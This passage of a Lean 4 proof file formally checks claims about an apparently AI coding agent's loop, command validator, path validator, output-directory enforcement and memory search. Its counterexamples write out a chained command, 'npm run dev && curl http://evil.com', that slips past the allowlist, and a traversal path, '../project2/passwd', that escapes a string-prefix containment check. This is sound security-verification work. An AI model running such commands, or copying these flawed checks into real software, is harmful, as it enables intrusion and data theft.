          | .content fcs ts => handleContent stop (send + 2) (chk + 1) fcs ts
        | .empty => nudge resp stop (send + 1) (chk + 1)
        | .content fcs ts => handleContent stop (send + 1) (chk + 1) fcs ts
      match step with
      | .terminal r => r
      | .continueLoop send2 chk2 => agentLoop resp stop fuel send2 chk2

/-- `AgentCore.run` control flow, from a fresh iteration counter. -/
def agentRun (resp : ℕ → ModelResponse) (stop : ℕ → Bool) : RunResult :=
  agentLoop resp stop MAX_ITERATIONS 0 0

/-! ## Theorems settling the claims -/

/-- C3 (code bug): `validate_path` is specified to raise on every path whose
resolution escapes the base directory, never returning a path outside it. The
containment test is `resolved.startswith(base_abs)`, a raw string-prefix
check, so the traversal path `../project2/passwd` resolved against base
directory `/work/proj` yields `/work/project2/passwd` — outside the base
directory, yet accepted because the sibling shares the `/work/proj` string
prefix. This contradicts the docstring of `validate_path`
("ensure it stays within the project directory; prevents path traversal
attacks"). -/
theorem C3_traversal_escape_accepted :
    validatePath "/work".data "../project2/passwd".data "/work/proj".data =
      .ok "/work/project2/passwd".data ∧
    specWithinBase "/work/project2/passwd".data "/work/proj".data = false := by decide

/-- C6: on the three screens Home, Question, Results, a "Start Quiz" button on
Home yields exactly Home→Question and a "Submit" button on Question yields
exactly Question→Results, one transition per button, in that order. -/
theorem C6_quiz_fixture_transitions :
    (analyzeFlow quizFrames quizElements).transitions =
      [⟨"Home", "Question", "Start Quiz button"⟩,
       ⟨"Question", "Results", "Submit button"⟩] := by decide

/-- C8: for frames ["Home Page", "Quiz Screen", "Results"] and routes
["/", "/quiz", "/results"], the greedy name-similarity pairing matches
"Home Page" with "/" via the landing-name boost (score 1.0), "Quiz Screen"
with "/quiz" and "Results" with "/results" via substring containment
(score 0.9). -/
theorem C8_name_similarity_pairing :
    pairFramesToRoutes ["/", "/quiz", "/results"] pairingFrames =
      [(0, 0), (1, 1), (2, 2)] ∧
    fuzzyMatchScore "Home Page" "/" = (1, 1) ∧
    fuzzyMatchScore "Quiz Screen" "/quiz" = (9, 10) ∧
    fuzzyMatchScore "Results" "/results" = (9, 10) := by decide

/-- C1 counterexample: the claim asserts every chained command with a
denylisted substring in a non-allowlisted later segment is rejected.
`npm run dev && curl http://evil.com` contains the denylisted substring
"curl" in a chained segment that is not allowlisted, yet `validate_command`
returns it unchanged: the command string as a whole starts with the
allowlisted prefix `npm run dev`, and that check returns before any
segment-wise scan runs. -/
theorem C1_counterexample :
    validateCommand "npm run dev && curl http://evil.com" =
      .ok "npm run dev && curl http://evil.com" ∧
    hasChain (cmdLowered "npm run dev && curl http://evil.com") = true ∧
    ((chainParts (cmdLowered "npm run dev && curl http://evil.com")).any
      (fun raw => ¬ isPartAllowed (pyStrip raw) ∧
        containsSub (pyStrip raw) "curl".data)) = true := by decide

/-- C2 counterexample: the claim asserts the resolved path always starts with
`output/P/` for the active project `P`. A candidate already shaped
`output/<other>/...` passes through unchanged (by design — the repository
test suite asserts this passthrough), so with active project `quiz_2` the
input `output/other_proj/file.js` resolves to itself, which does not start
with `output/quiz_2/`. -/
theorem C2_counterexample :
    enforceOutputDir (some "quiz_2") "output/other_proj/file.js" =
      "output/other_proj/file.js" ∧
    ("output/quiz_2/".data.isPrefixOf "output/other_proj/file.js".data) = false := by
  decide

/-- C9 counterexample: the claim asserts a saved entry is found by any query
containing the key text. `search` discards query tokens of length ≤ 1
(`if len(w) > 1`), so after saving under key "x" the query "x" — which is
exactly the key text — produces an empty token list and an empty result. -/
theorem C9_counterexample :
    memSearch (memSave emptyMemory .knowledge "x" "42") "x" (some .knowledge) = [] ∧
    containsSub "x".data "x".data = true := by decide

/-- If the stop flag never trips, the tool-batch walk always completes and
returns the next poll index. -/
theorem batchChecks_of_no_stop (stop : ℕ → Bool) (hstop : ∀ n, stop n = false) :
    ∀ (l : List String) (chk : ℕ), batchChecks stop chk l = some (chk + l.length + 1) := by
  intro l
  induction l with
  | nil => intro chk; simp [batchChecks, hstop]
  | cons x rest ih =>
    intro chk
    simp only [batchChecks, hstop, if_false, Bool.false_eq_true, ih, List.length_cons]
    congr 1
    omega

/-- With no stop request and a tool call in every response, every iteration
recurses, so the loop runs the fuel down to the exhaustion sentinel. -/
theorem agentLoop_exhausts (resp : ℕ → ModelResponse) (stop : ℕ → Bool)
    (hstop : ∀ n, stop n = false)
    (hcalls : ∀ n, ∃ fcs ts, resp n = .content fcs ts ∧ fcs ≠ []) :
    ∀ (fuel send chk : ℕ),
      agentLoop resp stop fuel send chk = .returns "Agent reached maximum iteration limit." := by
  intro fuel
  induction fuel with
  | zero => intro send chk; rfl
  | succ fuel ih =>
    intro send chk
    obtain ⟨fcs, ts, hr, hne⟩ := hcalls send
    simp only [agentLoop, hstop, Bool.false_eq_true, if_false, hr, handleContent, hne,
      batchChecks_of_no_stop stop hstop]
    exact ih (send + 1) (chk + 1 + fcs.length + 1)

/-- C5: whenever every model response carries at least one tool call (and no
stop is requested), `AgentCore.run` terminates after the fixed iteration
ceiling `MAX_ITERATIONS = 80` and returns the sentinel exhaustion message
string instead of raising. -/
theorem C5_exhaustion_sentinel (resp : ℕ → ModelResponse) (stop : ℕ → Bool)
    (hstop : ∀ n, stop n = false)
    (hcalls : ∀ n, ∃ fcs ts, resp n = .content fcs ts ∧ fcs ≠ []) :
    agentRun resp stop = .returns "Agent reached maximum iteration limit." ∧
      MAX_ITERATIONS = 80 :=
  ⟨agentLoop_exhausts resp stop hstop hcalls MAX_ITERATIONS 0 0, rfl⟩

/-- C5 witness: a concrete always-calling model stream and never-tripping
stop flag hit the exhaustion sentinel. -/
theorem C5_exhaustion_sentinel_witness :
    agentRun (fun _ => .content ["create_file"] []) (fun _ => false) =
      .returns "Agent reached maximum iteration limit." :=
  (C5_exhaustion_sentinel (fun _ => .content ["create_file"] []) (fun _ => false)
    (fun _ => rfl) (fun _ => ⟨["create_file"], [], rfl, by simp⟩)).1

/-- `dropWhile` distributes over an append whose left part is not consumed
entirely. -/
theorem list_dropWhile_append_of_ne_nil {α : Type} {p : α → Bool} {l₁ l₂ : List α}
    (h : l₁.dropWhile p ≠ []) :
    (l₁ ++ l₂).dropWhile p = l₁.dropWhile p ++ l₂ := by
  induction l₁ with
  | nil => simp at h
  | cons a t ih =>
    by_cases hp : p a
    · rw [List.dropWhile_cons_of_pos hp] at h
      rw [List.cons_append, List.dropWhile_cons_of_pos hp, List.dropWhile_cons_of_pos hp]
      exact ih h
    · rw [List.cons_append, List.dropWhile_cons_of_neg hp, List.dropWhile_cons_of_neg hp,
        List.cons_append]

/-- `dropWhile` is idempotent. -/
theorem list_dropWhile_idem {α : Type} (p : α → Bool) (l : List α) :
    (l.dropWhile p).dropWhile p = l.dropWhile p := by
  induction l with
  | nil => simp
  | cons a t ih =>
    by_cases hp : p a
    · rw [List.dropWhile_cons_of_pos hp]; exact ih
    · rw [List.dropWhile_cons_of_neg hp, List.dropWhile_cons_of_neg hp]

/-- Right-trimming distributes over an append whose right part does not trim
to nothing. -/
theorem dropRightWhileCh_append {p : Char → Bool} {l₁ l₂ : List Char}
    (h : dropRightWhileCh p l₂ ≠ []) :
    dropRightWhileCh p (l₁ ++ l₂) = l₁ ++ dropRightWhileCh p l₂ := by
  unfold dropRightWhileCh at h ⊢
  have h2 : l₂.reverse.dropWhile p ≠ [] := by
    intro hnil
    rw [hnil] at h
    simp at h
  rw [List.reverse_append, list_dropWhile_append_of_ne_nil h2, List.reverse_append,
    List.reverse_reverse]

/-- Right-trimming is idempotent. -/
theorem dropRightWhileCh_idem (p : Char → Bool) (l : List Char) :
    dropRightWhileCh p (dropRightWhileCh p l) = dropRightWhileCh p l := by
  unfold dropRightWhileCh
  rw [List.reverse_reverse, list_dropWhile_idem]

/-- A list starting with the (non-whitespace) characters of "npm install "
is untouched by left whitespace trimming. -/
theorem dropWhile_pyWs_npmInstall (t : List Char) :
    ("npm install ".data ++ t).dropWhile pyWs = "npm install ".data ++ t := by
  show List.dropWhile pyWs ('n' :: ("pm install ".data ++ t)) = _
  rw [List.dropWhile_cons_of_neg (by decide)]
  rfl

/-- C4: `validate_command` accepts the bare manifest-install forms
`npm install` and `npm i`, and raises for `npm install <extra args>` whenever
the argument part is not pure whitespace (left as-is in the command, the
arguments survive the lowercase-and-strip normalization). -/
theorem C4_npm_install_extra_args (s : String)
    (h : dropRightWhileCh pyWs (pyLower s.data) ≠ []) :
    isErr (validateCommand ("npm install " ++ s)) = true ∧
    validateCommand "npm install" = .ok "npm install" ∧
    validateCommand "npm i" = .ok "npm i" := by
  refine ⟨?_, by decide, by decide⟩
  have hlow : pyLower (("npm install " ++ s).data) = "npm install ".data ++ pyLower s.data := by
    rw [String.data_append]
    unfold pyLower
    rw [List.map_append]
    congr 1
  have hcl : cmdLowered ("npm install " ++ s) =
      "npm install ".data ++ dropRightWhileCh pyWs (pyLower s.data) := by
    unfold cmdLowered pyStrip
    rw [hlow, dropWhile_pyWs_npmInstall, dropRightWhileCh_append h]
  set u := dropRightWhileCh pyWs (pyLower s.data) with hu
  have huIdem : dropRightWhileCh pyWs u = u := by
    rw [hu, dropRightWhileCh_idem]
  have hpre1 : ("npm install".data).isPrefixOf ("npm install ".data ++ u) = true := by
    rw [List.isPrefixOf_iff_prefix]
    exact ⟨' ' :: u, rfl⟩
  have hfind : ALLOWED_COMMANDS.find? (fun a => a.isPrefixOf ("npm install ".data ++ u)) =
      some "npm install".data := by
    exact List.find?_cons_of_pos _ hpre1
  have hstripCl : pyStrip ("npm install ".data ++ u) = "npm install ".data ++ u := by
    have hne : dropRightWhileCh pyWs u ≠ [] := by rw [huIdem]; exact h
    unfold pyStrip
    rw [dropWhile_pyWs_npmInstall, dropRightWhileCh_append hne, huIdem]
  have hneBare : ¬("npm install ".data ++ u = "npm install".data ∨
      "npm install ".data ++ u = "npm i".data) := by
    rintro (h1 | h1)
    · have hlen := congrArg List.length h1
      rw [List.length_append] at hlen
      have hlen2 : (12 : ℕ) + u.length = 11 := hlen
      omega
    · have hlen := congrArg List.length h1
      rw [List.length_append] at hlen
      have hlen2 : (12 : ℕ) + u.length = 5 := hlen
      omega
  have hpre2 : ("npm install ".data).isPrefixOf ("npm install ".data ++ u) = true := by
    rw [List.isPrefixOf_iff_prefix]
    exact List.prefix_append _ _
  have hsafe : isSafeNpmInstall ("npm install ".data ++ u) = false := by
    unfold isSafeNpmInstall
    simp only [hstripCl]
    rw [if_neg hneBare, if_pos (Or.inl hpre2)]
  unfold validateCommand
  simp only [hcl, hfind, hsafe]
  simp [isErr]

/-- C4 witness: `npm install lodash` raises while the bare forms pass. -/
theorem C4_npm_install_extra_args_witness :
    dropRightWhileCh pyWs (pyLower "lodash".data) ≠ [] ∧
    isErr (validateCommand ("npm install " ++ "lodash")) = true ∧
    validateCommand "npm install" = .ok "npm install" ∧
    validateCommand "npm i" = .ok "npm i" :=
  ⟨by decide, C4_npm_install_extra_args "lodash" (by decide)⟩

/-- Stable insertion permutes: the inserted element just lands somewhere. -/
theorem insSorted_perm {α : Type} (le : α → α → Bool) (a : α) (l : List α) :
    List.Perm (insSorted le a l) (a :: l) := by
  induction l with
  | nil => exact List.Perm.refl _
  | cons b t ih =>
    unfold insSorted
    by_cases h : le a b
    · rw [if_pos h]
    · rw [if_neg h]
      exact (ih.cons b).trans (List.Perm.swap a b t)

/-- The embedded stable sort is a permutation of its input. -/
theorem pySortBy_perm {α : Type} (le : α → α → Bool) (l : List α) :
    List.Perm (pySortBy le l) l := by
  induction l with
  | nil => exact List.Perm.refl _
  | cons a t ih =>
    exact (insSorted_perm le a (pySortBy le t)).trans (ih.cons a)

/-- C9 (amended): after saving under (category `c`, key `K`), a search over
category `c` finds an entry with that category and key, provided the query
contains the key text as a whole whitespace-delimited token and the key has
length at least 2 (the search tokenizer discards shorter tokens). -/
theorem C9_save_search_roundtrip (st : MemoryState) (c : MemCat) (K jd q : String)
    (hmem : K.data ∈ pyWords q.data) (hlen : 1 < K.data.length) :
    ∃ r ∈ memSearch (memSave st c K jd) q (some c), r.category = c ∧ r.key = K := by
  have hw : pyLower K.data ∈ queryWords q := by
    unfold queryWords
    exact List.mem_map_of_mem _ (List.mem_filter.mpr ⟨hmem, by simpa using hlen⟩)
  have hqws : queryWords q ≠ [] := List.ne_nil_of_mem hw
  have hstore : getStore (memSave st c K jd) c = updateStore (getStore st c) K jd := by
    cases c <;> rfl
  have hentry : (K, jd) ∈ updateStore (getStore st c) K jd := by
    unfold updateStore
    by_cases hx : (getStore st c).any (fun kv => kv.1 = K)
    · rw [if_pos hx]
      obtain ⟨kv, hkv, hkey⟩ := List.any_eq_true.mp hx
      refine List.mem_map.mpr ⟨kv, hkv, ?_⟩
      have hk : kv.1 = K := by simpa using hkey
      rw [if_pos hk]
    · rw [if_neg hx]
      simp
  have hcontains : containsSub (searchableText K jd) (pyLower K.data) = true := by
    unfold containsSub searchableText
    apply decide_eq_true
    unfold pyLower
    rw [List.map_append]
    exact (List.prefix_append _ _).isInfix
  have hmatch : 0 < matchCount (queryWords q) (searchableText K jd) := by
    unfold matchCount
    have hmem2 : pyLower K.data ∈ (queryWords q).filter
        (fun w => containsSub (searchableText K jd) w) :=
      List.mem_filter.mpr ⟨hw, hcontains⟩
    exact List.length_pos.mpr (List.ne_nil_of_mem hmem2)
  have hres : (SearchResult.mk c K jd, matchCount (queryWords q) (searchableText K jd)) ∈
      searchCatResults c (queryWords q) (getStore (memSave st c K jd) c) := by
    rw [hstore]
    refine List.mem_filterMap.mpr ⟨(K, jd), hentry, ?_⟩
    simp only
    rw [if_pos hmatch]
  refine ⟨⟨c, K, jd⟩, ?_, rfl, rfl⟩
  unfold memSearch
  simp only [if_neg hqws, List.map_cons, List.map_nil, List.flatten_cons, List.flatten_nil,
    List.append_nil]
  refine List.mem_map.mpr ⟨(SearchResult.mk c K jd,
    matchCount (queryWords q) (searchableText K jd)), ?_, rfl⟩
  exact ((pySortBy_perm _ _).mem_iff).mpr hres

/-- C9 witness: saving ("knowledge", "react") then searching "use react
please" over knowledge finds the entry. -/
theorem C9_save_search_roundtrip_witness :
    ("react".data ∈ pyWords "use react please".data ∧ 1 < "react".data.length) ∧
    ∃ r ∈ memSearch (memSave emptyMemory .knowledge "react" "42") "use react please"
      (some .knowledge), r.category = .knowledge ∧ r.key = "react" :=
  ⟨⟨by decide, by decide⟩, C9_save_search_roundtrip emptyMemory .knowledge "react" "42"
    "use react please" (by decide) (by decide)⟩

/-- `splitChar` never produces the empty list of fields. -/
theorem splitChar_ne_nil (sep : Char) (s : List Char) : splitChar sep s ≠ [] := by
  cases s with
  | nil => simp [splitChar]
  | cons c rest =>
    unfold splitChar
    cases h : splitChar sep rest with
    | nil => simp
    | cons h2 t =>
      show ¬(if c = sep then [] :: h2 :: t else (c :: h2) :: t) = []
      split <;> simp

/-- Field count of a single-character split: separator count plus one. -/
theorem splitChar_length (sep : Char) (s : List Char) :
    (splitChar sep s).length = s.count sep + 1 := by
  induction s with
  | nil => rfl
  | cons c rest ih =>
    unfold splitChar
    cases hsp : splitChar sep rest with
    | nil => exact absurd hsp (splitChar_ne_nil sep rest)
    | cons h t =>
      rw [hsp] at ih
      show (if c = sep then [] :: h :: t else (c :: h) :: t).length =
        List.count sep (c :: rest) + 1
      by_cases hc : c = sep
      · rw [if_pos hc]
        subst hc
        simp only [List.length_cons, List.count_cons_self] at ih ⊢
        omega
      · rw [if_neg hc]
        simp only [List.length_cons] at ih ⊢
        rw [List.count_cons_of_ne (Ne.symm hc)]
        omega

/-- Characters of the fields of a split come from the split string. -/
theorem mem_of_mem_splitChar {sep : Char} :
    ∀ {s x : List Char}, x ∈ splitChar sep s → ∀ {c : Char}, c ∈ x → c ∈ s := by
  intro s
  induction s with
  | nil =>
    intro x hx c hc
    simp [splitChar] at hx
    subst hx
    simp at hc
  | cons d rest ih =>
    intro x hx c hc
    unfold splitChar at hx
    cases hsp : splitChar sep rest with
    | nil => exact absurd hsp (splitChar_ne_nil sep rest)
    | cons h t =>
      rw [hsp] at hx
      have hx2 : x ∈ (if d = sep then [] :: h :: t else (d :: h) :: t) := hx
      clear hx
      by_cases hd : d = sep
      · rw [if_pos hd] at hx2
        rcases List.mem_cons.mp hx2 with hx | hx
        · subst hx; simp at hc
        · exact List.mem_cons_of_mem _ (ih (by rw [hsp]; exact hx) hc)
      · rw [if_neg hd] at hx2
        rcases List.mem_cons.mp hx2 with hx | hx
        · subst hx
          rcases List.mem_cons.mp hc with hc | hc
          · subst hc; exact List.mem_cons_self _ _
          · exact List.mem_cons_of_mem _
              (ih (by rw [hsp]; exact List.mem_cons_self h t) hc)
        · exact List.mem_cons_of_mem _
            (ih (by rw [hsp]; exact List.mem_cons_of_mem h hx) hc)

/-- The backslash-to-slash map leaves no backslash behind. -/
theorem mapBackslash_no_bs (s : List Char) : ∀ c ∈ mapBackslash s, c ≠ '\\' := by
  intro c hc
  obtain ⟨x, hx, hfx⟩ := List.mem_map.mp hc
  by_cases hxb : x = '\\'
  · rw [if_pos hxb] at hfx
    rw [← hfx]
    decide
  · rw [if_neg hxb] at hfx
    rw [← hfx]
    exact hxb

/-- `normalizeEnforce` output is backslash-free. -/
theorem normalizeEnforce_no_bs (s : List Char) : ∀ c ∈ normalizeEnforce s, c ≠ '\\' := by
  intro c hc
  exact mapBackslash_no_bs s c (List.dropWhile_subset _ hc)

/-- The backslash map is the identity on backslash-free strings. -/
theorem mapBackslash_eq_self {s : List Char} (h : ∀ c ∈ s, c ≠ '\\') :
    mapBackslash s = s := by
  induction s with
  | nil => rfl
  | cons a t ih =>
    unfold mapBackslash at ih ⊢
    rw [List.map_cons, if_neg (h a (List.mem_cons_self a t)),
      ih (fun c hc => h c (List.mem_cons_of_mem a hc))]

/-- A string extending `output/` contains at least one slash. -/
theorem count_slash_of_out (n : List Char) (h : "output/".data <+: n) :
    1 ≤ n.count '/' := by
  obtain ⟨t, ht⟩ := h
  rw [← ht, List.count_append]
  have h1 : ("output/".data).count '/' = 1 := by decide
  omega

/-- The shape shared by every `_enforce_output_dir` result: an `output/`
prefix, no backslashes, and — when a project is active — at least two
slashes (equivalently, at least three `/`-separated fields). -/
def goodFor (proj : Option String) (r : List Char) : Prop :=
  "output/".data <+: r ∧ (∀ c ∈ r, c ≠ '\\') ∧
    (projActive proj = true → 2 ≤ r.count '/')

/-- `_enforce_output_dir` leaves any `goodFor`-shaped path unchanged. -/
theorem enforce_fixed (proj : Option String) (s : String) (hg : goodFor proj s.data) :
    enforceOutputDir proj s = s := by
  obtain ⟨hpre, hbs, hcnt⟩ := hg
  obtain ⟨t, ht⟩ := hpre
  have hnorm : normalizeEnforce s.data = s.data := by
    unfold normalizeEnforce lstripDotSlash
    rw [mapBackslash_eq_self hbs, ← ht]
    show List.dropWhile _ ('o' :: ("utput/".data ++ t)) = _
    rw [List.dropWhile_cons_of_neg (by decide)]
    rfl
  unfold enforceOutputDir
  simp only [hnorm]
  rw [if_pos (List.isPrefixOf_iff_prefix.mpr ⟨t, ht⟩)]
  by_cases hact : projActive proj = true
  · rw [if_pos (by rw [splitChar_length]; have := hcnt hact; omega)]
  · by_cases h3 : 3 ≤ (splitChar '/' s.data).length
    · rw [if_pos h3]
    · rw [if_neg h3, if_neg (fun hc => hact hc.1)]

/-- Every `_enforce_output_dir` result is `goodFor`-shaped (for project names
without backslashes). -/
theorem enforce_good (proj : Option String) (path : String)
    (hproj : ∀ c ∈ ((proj.getD "").data), c ≠ '\\') :
    goodFor proj (enforceOutputDir proj path).data := by
  unfold enforceOutputDir
  have hbn := normalizeEnforce_no_bs path.data
  have houtbs : ∀ c ∈ "output/".data, c ≠ '\\' := by decide
  by_cases h1 : ("output/".data).isPrefixOf (normalizeEnforce path.data)
  · rw [if_pos h1]
    have hpre := List.isPrefixOf_iff_prefix.mp h1
    by_cases h3 : 3 ≤ (splitChar '/' (normalizeEnforce path.data)).length
    · rw [if_pos h3]
      refine ⟨hpre, hbn, fun _ => ?_⟩
      show 2 ≤ List.count '/' (normalizeEnforce path.data)
      rw [splitChar_length] at h3
      omega
    · rw [if_neg h3]
      by_cases h2 : projActive proj = true ∧
          (splitChar '/' (normalizeEnforce path.data)).length = 2
      · rw [if_pos h2]
        have hfield : (splitChar '/' (normalizeEnforce path.data)).getD 1 [] ∈
            splitChar '/' (normalizeEnforce path.data) := by
          rw [List.getD_eq_getElem?_getD, List.getElem?_eq_getElem (by omega)]
          exact List.getElem_mem _
        refine ⟨⟨_, (List.append_assoc _ _ _).symm⟩, ?_, fun _ => ?_⟩
        · intro c hc
          rcases List.mem_append.mp hc with hc2 | hc2
          · rcases List.mem_append.mp hc2 with hc3 | hc3
            · exact houtbs c hc3
            · exact hproj c hc3
          · rcases List.mem_cons.mp hc2 with hc3 | hc3
            · subst hc3; decide
            · exact hbn c (mem_of_mem_splitChar hfield hc3)
        · show 2 ≤ List.count '/' ("output/".data ++ (proj.getD "").data ++
            ('/' :: (splitChar '/' (normalizeEnforce path.data)).getD 1 []))
          rw [List.count_append, List.count_append, List.count_cons_self]
          have hone : ("output/".data).count '/' = 1 := by decide
          omega
      · rw [if_neg h2]
        refine ⟨hpre, hbn, fun hact => ?_⟩
        show 2 ≤ List.count '/' (normalizeEnforce path.data)
        have hge1 := count_slash_of_out _ hpre
        rw [splitChar_length] at h3
        by_cases hlen2 : (normalizeEnforce path.data).count '/' = 1
        · exact absurd ⟨hact, by rw [splitChar_length]; omega⟩ h2
        · omega
  · rw [if_neg h1]
    by_cases h2 : projActive proj = true ∧
        (((proj.getD "").data ++ "/".data)).isPrefixOf (normalizeEnforce path.data)
    · rw [if_pos h2]
      obtain ⟨t, ht⟩ := List.isPrefixOf_iff_prefix.mp h2.2
      refine ⟨List.prefix_append _ _, ?_, fun _ => ?_⟩
      · intro c hc
        rcases List.mem_append.mp hc with hc2 | hc2
        · exact houtbs c hc2
        · exact hbn c hc2
      · show 2 ≤ List.count '/' ("output/".data ++ normalizeEnforce path.data)
        rw [List.count_append, ← ht, List.count_append, List.count_append]
        have hone : ("output/".data).count '/' = 1 := by decide
        have hone2 : ("/".data).count '/' = 1 := by decide
        omega
    · rw [if_neg h2]
      by_cases hact : projActive proj = true
      · rw [if_pos hact]
        refine ⟨⟨_, (List.append_assoc _ _ _).symm⟩, ?_, fun _ => ?_⟩
        · intro c hc
          rcases List.mem_append.mp hc with hc2 | hc2
          · rcases List.mem_append.mp hc2 with hc3 | hc3
            · exact houtbs c hc3
            · exact hproj c hc3
          · rcases List.mem_cons.mp hc2 with hc3 | hc3
            · subst hc3; decide
            · exact hbn c hc3
        · show 2 ≤ List.count '/' ("output/".data ++ (proj.getD "").data ++
            ('/' :: normalizeEnforce path.data))
          rw [List.count_append, List.count_append, List.count_cons_self]
          have hone : ("output/".data).count '/' = 1 := by decide
          omega
      · rw [if_neg (by simp [hact])]
        refine ⟨List.prefix_append _ _, ?_, fun hc => absurd hc hact⟩
        intro c hc
        rcases List.mem_append.mp hc with hc2 | hc2
        · exact houtbs c hc2
        · exact hbn c hc2

/-- When the normalized candidate does not already start with `output/` and a
project is active, the result lands under `output/<project>/`. -/
theorem enforce_active_project_prefixed (P : String) (path : String)
    (hP : P ≠ "")
    (hout : ¬ ("output/".data <+: normalizeEnforce path.data)) :
    ("output/".data ++ P.data ++ "/".data) <+:
      (enforceOutputDir (some P) path).data := by
  have hactB : projActive (some P) = true := by simp [projActive, hP]
  unfold enforceOutputDir
  rw [if_neg (fun hc => hout (List.isPrefixOf_iff_prefix.mp hc))]
  by_cases h2 : ((P.data ++ "/".data)).isPrefixOf (normalizeEnforce path.data)
  · rw [if_pos ⟨hactB, by simpa using h2⟩]
    obtain ⟨t, ht⟩ := List.isPrefixOf_iff_prefix.mp h2
    refine ⟨t, ?_⟩
    show ("output/".data ++ P.data ++ "/".data) ++ t = "output/".data ++ normalizeEnforce path.data
    rw [← ht, List.append_assoc, List.append_assoc, List.append_assoc]
  · rw [if_neg (fun hc => h2 (by simpa using hc.2)), if_pos hactB]
    refine ⟨normalizeEnforce path.data, ?_⟩
    show ("output/".data ++ P.data ++ "/".data) ++ _ = ("output/".data ++ P.data) ++ ('/' :: _)
    rw [List.append_assoc]
    rfl

/-- C2 (amended): for a non-empty, backslash-free active project name `P`,
`_enforce_output_dir` is idempotent and its result always starts with
`output/`; it starts with `output/P/` whenever the normalized candidate does
not itself already start with `output/` (a candidate already under
`output/<other>/` passes through unchanged, as the counterexample shows). -/
theorem C2_enforce_idempotent_and_prefixed (p : String) (P : String)
    (hP : P ≠ "") (hbs : ∀ c ∈ P.data, c ≠ '\\') :
    enforceOutputDir (some P) (enforceOutputDir (some P) p) =
      enforceOutputDir (some P) p ∧
    "output/".data <+: (enforceOutputDir (some P) p).data ∧
    (¬ ("output/".data <+: normalizeEnforce p.data) →
      ("output/".data ++ P.data ++ "/".data) <+:
        (enforceOutputDir (some P) p).data) := by
  have hgood := enforce_good (some P) p (by simpa using hbs)
  exact ⟨enforce_fixed (some P) _ hgood, hgood.1,
    fun hout => enforce_active_project_prefixed P p hP hout⟩

/-- C2 witness: a bare candidate path with active project `quiz_2` resolves
idempotently to a path under `output/quiz_2/`. -/
theorem C2_enforce_idempotent_and_prefixed_witness :
    ("quiz_2" ≠ "" ∧ ¬ ("output/".data <+: normalizeEnforce "src/App.jsx".data)) ∧
    enforceOutputDir (some "quiz_2") (enforceOutputDir (some "quiz_2") "src/App.jsx") =
      enforceOutputDir (some "quiz_2") "src/App.jsx" ∧
    ("output/".data ++ "quiz_2".data ++ "/".data) <+:
      (enforceOutputDir (some "quiz_2") "src/App.jsx").data :=
  ⟨⟨by decide, by decide⟩,
   (C2_enforce_idempotent_and_prefixed "src/App.jsx" "quiz_2" (by decide) (by decide)).1,
   (C2_enforce_idempotent_and_prefixed "src/App.jsx" "quiz_2" (by decide)
     (by decide)).2.2 (by decide)⟩

/-- Every button-driven transition targets an actual screen of the list: the
`0 <= target < num_screens` guard discards out-of-range matches before the
target screen is ever referenced. -/
theorem buttonTransitions_to_mem (screens : List Screen) :
    ∀ t ∈ buttonTransitions screens,
      ∃ j, ∃ hj : j < screens.length, t.toName = (screens.get ⟨j, hj⟩).name := by
  intro t ht
  obtain ⟨screen, _, hmem⟩ := List.mem_flatMap.mp ht
  obtain ⟨b, _, hfb⟩ := List.mem_filterMap.mp hmem
  split at hfb
  · rename_i tgt hm
    split at hfb
    · split at hfb
      · rename_i s2 hg
        obtain ⟨hlt, hget⟩ := List.getElem?_eq_some_iff.mp hg
        refine ⟨tgt.toNat, hlt, ?_⟩
        rw [← Option.some.inj hfb]
        show s2.name = _
        simp [List.get_eq_getElem, hget]
      · exact absurd hfb (by simp)
    · exact absurd hfb (by simp)
  · exact absurd hfb (by simp)

/-- Every transition of `_determine_transitions` — button-driven or from the
linear fallback chain — targets a screen of the list. -/
theorem determineTransitions_to_mem (screens : List Screen) :
    ∀ t ∈ determineTransitions screens,
      ∃ j, ∃ hj : j < screens.length, t.toName = (screens.get ⟨j, hj⟩).name := by
  intro t ht
  unfold determineTransitions at ht
  by_cases hlin : buttonTransitions screens = [] ∧ 1 < screens.length
  · rw [if_pos hlin] at ht
    unfold linearChain at ht
    obtain ⟨p, hzip, hp⟩ := List.mem_map.mp ht
    have hb2 : p.2 ∈ screens := List.mem_of_mem_tail (List.of_mem_zip hzip).2
    obtain ⟨⟨j, hj⟩, hget⟩ := List.mem_iff_get.mp hb2
    refine ⟨j, hj, ?_⟩
    rw [hget, ← hp]
  · rw [if_neg hlin] at ht
    exact buttonTransitions_to_mem _ t ht

/-- C7: every transition `analyze_flow` produces points at a screen that
exists in the screen list (in-bounds index), and a button matching the
forward-intent family on the last screen yields no target at all (the
`current_idx + 1 < total` guard fails there, and the forward family is
checked first, so no other family can fire). -/
theorem C7_transitions_in_bounds (frames : List Frame) (elements : List InteractiveElement) :
    (∀ t ∈ (analyzeFlow frames elements).transitions,
      ∃ j, ∃ hj : j < (analyzeFlow frames elements).screens.length,
        t.toName = ((analyzeFlow frames elements).screens.get ⟨j, hj⟩).name) ∧
    (∀ (btnText : List Char) (total : ℕ), 0 < total →
      familyMatches FORWARD_PATTERNS btnText = true →
      matchButtonTarget btnText (total - 1) total = none) := by
  constructor
  · intro t ht
    by_cases hf : frames = []
    · rw [hf] at ht
      simp [analyzeFlow] at ht
    · have h1 : analyzeFlow frames elements =
          ⟨buildScreens frames elements,
           determineTransitions (buildScreens frames elements)⟩ := by
        simp [analyzeFlow, hf]
      rw [h1] at ht ⊢
      exact determineTransitions_to_mem _ t ht
  · intro btnText total htotal hfwd
    unfold matchButtonTarget
    rw [if_pos hfwd, if_neg (by omega)]

/-- C7 witness: the Home→Question transition of the quiz fixture targets an
existing screen, and a forward-intent "next" button on the last of three
screens yields no target. -/
theorem C7_transitions_in_bounds_witness :
    (∃ j, ∃ hj : j < (analyzeFlow quizFrames quizElements).screens.length,
      Transition.toName ⟨"Home", "Question", "Start Quiz button"⟩ =
        ((analyzeFlow quizFrames quizElements).screens.get ⟨j, hj⟩).name) ∧
    matchButtonTarget "next".data 2 3 = none :=
  ⟨(C7_transitions_in_bounds quizFrames quizElements).1 _ (by decide),
   (C7_transitions_in_bounds quizFrames quizElements).2 "next".data 3 (by decide)
     (by decide)⟩

/-- If some blocked pattern occurs in `s`, the blocked-pattern scan finds
one. -/
theorem findBlocked_isSome {s : List Char}
    (h : ∃ p ∈ BLOCKED_PATTERNS, containsSub s p = true) :
    ∃ q, findBlocked s = some q := by
  cases hf : findBlocked s with
  | some q => exact ⟨q, rfl⟩
  | none =>
    obtain ⟨p, hp, hc⟩ := h
    have hnone := List.find?_eq_none.mp hf p hp
    exact absurd hc (by simpa using hnone)

/-- A chained segment that dooms the whole command: non-empty after
stripping, not on the per-segment allowlist, and containing a denylisted
